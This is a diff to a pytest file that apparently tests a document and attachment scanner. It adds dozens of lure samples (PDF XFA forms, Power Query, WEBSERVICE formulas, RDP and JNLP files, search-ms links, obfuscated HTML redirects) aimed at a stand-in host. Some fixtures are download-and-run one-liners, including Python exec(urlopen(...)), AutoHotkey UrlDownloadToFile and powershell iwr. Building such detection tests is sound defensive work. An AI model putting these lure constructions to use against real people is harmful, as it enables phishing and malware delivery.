@@ -4,6 +4,8 @@ same when it is packed anew; what a town hall receives every week passes."""
 from __future__ import annotations
 
 import io
+import plistlib
+import struct
 import time
 import zipfile
 from base64 import b64encode
@@ -44,6 +46,23 @@ def tied(kind: str, target: str) -> bytes:
 
 def with_template(target: str) -> bytes:
     return samples.docx(**{"word/_rels/settings__xml__rels": tied("attachedTemplate", target)})
+
+
+def with_form(event: str) -> bytes:
+    form = f"<xdp:xdp><template><subform>{event}</subform></template></xdp:xdp>".encode()
+    stream = b"<</Length %d>>stream\n%s\nendstream" % (len(form), form)
+    return samples.pdf(catalog="/AcroForm<</XFA[(template) 6 0 R]>>", more=(stream,))
+
+
+def mashup(source: str) -> bytes:
+    """A part of a workbook with a query (MS-QDEFF 2.2)."""
+    query = zipped(("Formulas/Section1.m", f"section S; shared Q = let a = {source} in a;".encode()))
+    whole = struct.pack("<II", 0, len(query)) + query + bytes(12)
+    return f"<?xml version='1.0'?><DataMashup xmlns='x'>{b64encode(whole).decode()}</DataMashup>".encode()
+
+
+def percents(text: str) -> str:
+    return "".join(f"%{one:02x}" for one in text.encode())
 
 
 def calendar(line: str) -> bytes:
@@ -160,6 +179,69 @@ LEADS: dict[str, bytes] = {
     "document without its end": samples.docx(
         **{"word/_rels/document__xml__rels": tied("hyperlink", EVIL)}
     ).partition(b"PK\x01\x02")[0],
+    "pdf, a form in XML": with_form(f"<event activity='click'><submit format='xml' target='{EVIL}'/></event>"),
+    "table, Power Query": samples.xlsx(**{"customXml/item1__xml": mashup(f'Web.Contents("{EVIL}")')}),
+    "table, Power Query in UTF-16": samples.xlsx(
+        **{"customXml/item1__xml": mashup(f'Web.Contents("{EVIL}")').decode().encode("utf-16")}
+    ),
+    "table, a source of data": samples.xlsx(
+        **{"xl/connections__xml": f'<dbPr connection="Provider=MSOLAP;Data Source={EVIL};x=y"/>'.encode()}
+    ),
+    "table, a text that it fetches": samples.xlsx(
+        **{"xl/connections__xml": f'<textPr sourceFile="\\\\{EVIL[8:24]}@SSL\\go\\abc"/>'.encode()}
+    ),
+    "table, a formula in pieces": samples.xlsx(
+        **{"xl/worksheets/sheet1__xml": f'<f>HYPERLINK("{EVIL[:9]}"&amp;"{EVIL[9:]}")</f>'.encode()}
+    ),
+    "table, a formula that fetches": samples.xlsx(
+        **{"xl/worksheets/sheet1__xml": f'<f>_xlfn.WEBSERVICE("{EVIL}")</f>'.encode()}
+    ),
+    "xps": packed(
+        **{
+            "[Content_Types]__xml": b"<Types/>",
+            "Documents/1/Pages/1__fpage": f'<Path FixedPage.NavigateUri="{EVIL}"/>'.encode(),
+        }
+    ),
+    "slides, a mouse over a shape": samples.docx(
+        **{"ppt/slides/_rels/slide1__xml__rels": tied("hyperlink", f"powershell%20iwr%20{EVIL}")}
+    ),
+    "slides, a share": samples.docx(
+        **{"ppt/slides/_rels/slide1__xml__rels": tied("hyperlink", f"file:///\\\\{EVIL[8:24]}@SSL\\go\\abc")}
+    ),
+    "document, a search": samples.docx(
+        **{
+            "word/_rels/document__xml__rels": tied(
+                "hyperlink", f"search-ms:query=a&amp;crumb=location:%5C%5C{EVIL[8:24]}@SSL%5Cgo%5Cabc"
+            )
+        }
+    ),
+    "document, a link in UTF-16": samples.docx(
+        **{"word/_rels/document__xml__rels": tied("hyperlink", EVIL).decode().encode("utf-16")}
+    ),
+    "notes": samples.notes(EVIL, b""),
+    "remote desktop": f"screen mode id:i:2\r\nfull address:s:{EVIL[8:24]}:443\r\n".encode("utf-16"),
+    "remote desktop, its gateway": f"full address:s:10.0.0.1\r\ngatewayhostname:s:{EVIL[8:24]}\r\n".encode(),
+    "shortcut of a Mac, packed": plistlib.dumps({"URL": EVIL}, fmt=plistlib.FMT_BINARY),
+    "shortcut of Linux": f"[Desktop Entry]\nType=Link\nURL={EVIL}\n".encode(),
+    "program of Java": f"<jnlp spec='1.0+'><resources><jar href='{EVIL}'/></resources></jnlp>".encode(),
+    "program of the store": f"<AppInstaller Uri='{EVIL}' Version='1.0.0.0'/>".encode(),
+    "program by a click": f"<asmv1:x><asmv2:deploymentProvider codebase='{EVIL}'/></asmv1:x>".encode(),
+    "console of Windows": f"<MMC_ConsoleFile><String ID='1'>{EVIL}</String></MMC_ConsoleFile>".encode(),
+    "query of the web": f"WEB\r\n1\r\n{EVIL}\r\n".encode(),
+    "script of AutoHotkey": f"#NoTrayIcon\nUrlDownloadToFile, {EVIL}, %A_Temp%\\a.exe\n".encode(),
+    "script of Python": f"import urllib.request as r\nexec(r.urlopen('{EVIL}').read())\n".encode(),
+    "page, a store": f"<html><a href='ms-appinstaller:?source={EVIL}'>Voir</a></html>".encode(),
+    "page, a program of Office": f"<html><a href='ms-word:ofe|u|{EVIL}'>Voir</a></html>".encode(),
+    "page, a search": page(f"location='search-ms:query=a&crumb=location:\\\\\\\\{EVIL[8:24]}@SSL\\\\go\\\\abc'"),
+    "page, without a scheme": f"<html><a href='{EVIL[6:]}'>Voir</a></html>".encode(),
+    "page, numbers to sixteen": page(f"a=[{','.join(hex(ord(one)) for one in EVIL)}]"),
+    "page, from its end": page(f"location='{EVIL[::-1]}'.split('').reverse().join('')"),
+    "page, in base64, from its end": page(f"a='{IN_BASE64[::-1]}'"),
+    "page, in base64 twice": page(f"a='{b64encode(IN_BASE64.encode()).decode()}'"),
+    "page, in percents": page(f"location=decodeURIComponent('{percents(EVIL)}')"),
+    "page, a page in percents": page(f"document.write(unescape('{percents(f'<a href={EVIL}>x</a>')}'))"),
+    "drawing, set": (DRAWN % f"<a><set attributeName='href' to='{EVIL}'/></a>").encode(),
+    "appointment in quotes": calendar(f"DESCRIPTION;ENCODING=QUOTED-PRINTABLE:Voir {EVIL.replace(':', '=3A')}"),
     "mail with a file that is elsewhere": samples.attached_mail(
         f"Content-Type: application/pdf\nX-Mozilla-External-Attachment-URL: {EVIL}\n\nx"
     ),
@@ -169,6 +251,7 @@ LEADS: dict[str, bytes] = {
     "mail of Outlook": samples.ole({"__substg1.0_1000001F": f"Voir {EVIL} ".encode("utf-16-le")}),
     "mail of Outlook, a page": samples.ole({"__substg1.0_10130102": f"<a href='{EVIL}'>Voir</a>".encode()}),
 }  # fmt: skip
+BY_HOST = {"remote desktop", "remote desktop, its gateway"}
 HELD: dict[str, tuple[bytes, str]] = {
     "page with a program": (
         page(f"a.download='Facture.exe'; d='{b64encode(EXE).decode()}'"),
@@ -226,6 +309,27 @@ HELD: dict[str, tuple[bytes, str]] = {
         kinds.PROGRAM,
     ),
     "a name that leads out": (zipped(("..\\..\\Startup\\a.txt", b"x")), kinds.DISGUISED),
+    "pdf, a form in XML that opens a page by itself": (
+        with_form(f"<event activity='initialize'><script>app.launchURL('{EVIL}')</script></event>"),
+        kinds.ACTIVE_PDF,
+    ),
+    "slides that start a program": (
+        samples.docx(
+            **{"ppt/slides/slide1__xml": b'<a:hlinkMouseOver r:id="r1" action="ppaction://program"/>'}
+        ),
+        kinds.PROGRAM,
+    ),
+    "notes": (samples.notes(EVIL, EXE), kinds.PROGRAM),
+    "template behind a decoy": (
+        samples.docx(
+            **{
+                "word/_rels/settings__xml__rels": tied("attachedTemplate", EVIL).replace(
+                    b"/>", b" x:TargetMode='Internal' x='TargetMode=&quot;Internal&quot;'/>"
+                )
+            }
+        ),
+        kinds.MALWARE,
+    ),
     "pdf, a share": (pressed(r"/S/GoToR/F(\\\\evil.example.net\\go)"), kinds.ACTIVE_PDF),
     "pdf, a share, on opening": (
         samples.pdf(catalog=r"/OpenAction<</S/GoToE/F<</UF(\\\\evil.example.net\\go)>>/D[0/Fit]>>"),
@@ -269,6 +373,7 @@ MADE_ANEW: dict[str, tuple[Callable[[int], bytes], bytes]] = {
         EXE,
     ),
     "pdf": (lambda n: samples.CARRIES + b"%% %d" % n, EXE),
+    "notes": (lambda n: samples.notes(f"https://a.example/{n}", EXE), EXE),
     "disk image": (lambda n: samples.made("iso9660", "none", {"a.lnk": LNK, f"{n}.txt": b"x"}), LNK),
 }  # fmt: skip
 WEEKLY: dict[str, bytes] = {
@@ -293,6 +398,16 @@ WEEKLY: dict[str, bytes] = {
     "contact with a photo": b"BEGIN:VCARD\r\nPHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJ\r\n RgABAQ==\r\nEND:VCARD\r\n",
     "coat of arms": (DRAWN % "<image xlink:href='data:image/png;base64,iVBORw0KGgo='/>").encode(),
     "invoice with its XML": samples.CARRIES.replace(b"a.exe", b"f.xml").replace(EXE, b"<x>".ljust(len(EXE))),
+    "form of the State": with_form("<event activity='initialize'><script>this.rawValue = 3</script></event>"),
+    "table with a query of the town hall's": samples.xlsx(
+        **{"customXml/item1__xml": mashup('File.Contents("\\\\SERVEUR\\budget.xlsx")')}
+    ),
+    "slides with links": samples.docx(
+        **{"ppt/slides/slide1__xml": b'<a:hlinkClick r:id="r1" action="ppaction://hlinkshowjump?jump=nextslide"/>'}
+    ),
+    "a template that is a comment": samples.docx(
+        **{"word/_rels/settings__xml__rels": b"<Relationships><!--%s--></Relationships>" % tied("frame", EVIL)}
+    ),
     "pdf that opens another one": pressed("/S/GoToR/F(annexe.pdf)"),
     "pdf that opens one of the town hall's server": pressed(r"/S/GoToR/F(\\\\SERVEUR\\Actes\\plu.pdf)"),
     "page with a long name of a page": b"<html><p title='a'>x</p><a href='https://a.example/once=1'>y</a></html>",
@@ -302,7 +417,9 @@ WEEKLY: dict[str, bytes] = {
 
 @pytest.mark.parametrize("name", LEADS)
 def test_where_a_lure_leads_is_told(name: str) -> None:
-    assert EVIL in look(LEADS[name]).links, look(LEADS[name])
+    led = {link.rstrip("/") for link in look(LEADS[name]).links}
+    hosts = {f"http://{EVIL[8:24]}:443", f"http://{EVIL[8:24]}"}
+    assert led & hosts if name in BY_HOST else EVIL in led, look(LEADS[name])
 
 
 @pytest.mark.parametrize("name", HELD)
